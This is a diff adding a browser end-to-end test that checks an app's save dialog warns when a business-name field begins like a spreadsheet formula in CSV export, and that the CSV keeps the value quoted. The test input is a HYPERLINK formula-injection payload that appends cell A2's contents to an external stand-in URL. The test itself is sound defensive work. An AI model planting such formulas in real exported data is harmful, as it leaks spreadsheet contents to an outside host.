@@ -72,6 +72,22 @@ test('the page works before its end has arrived, and a workbook waits for it', a
   server.close();
 });
 
+test('a formula is a text in Excel, and is named before it is written as CSV', async ({ page }) => {
+  await paste(page, JSON.stringify({ BusinessName: '=HYPERLINK("https://example.com/?"&A2,"É")', BusinessContactPhone: '+15155550134' }));
+  await page.getByRole('button', { name: 'Save', exact: true }).click();
+  const dialog = page.getByRole('dialog');
+  await expect(dialog.getByRole('radio').nth(2)).toHaveAccessibleName('Sheet (Excel)');
+  await dialog.getByLabel('Sheet (Excel)').check();
+  await expect(dialog).not.toContainText('begins like a formula');
+  await dialog.getByLabel('Sheet (CSV)').check();
+  await expect(dialog).toContainText('Business name begins like a formula');
+  await expect(dialog).not.toContainText('phone number begins');
+  await page.keyboard.press('Escape');
+  const { bytes } = await saved(page, 'Sheet (CSV)');
+  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+  expect(bytes.toString()).toContain('"=HYPERLINK(""https://example.com/?""&A2,""É"")"');
+});
+
 test('JSON and YAML are the payload of the provider', async ({ page }) => {
   const original = JSON.parse(sampleText('twilio/juniper-stage.json'));
   await open(page, sample('twilio/juniper-stage.json'));
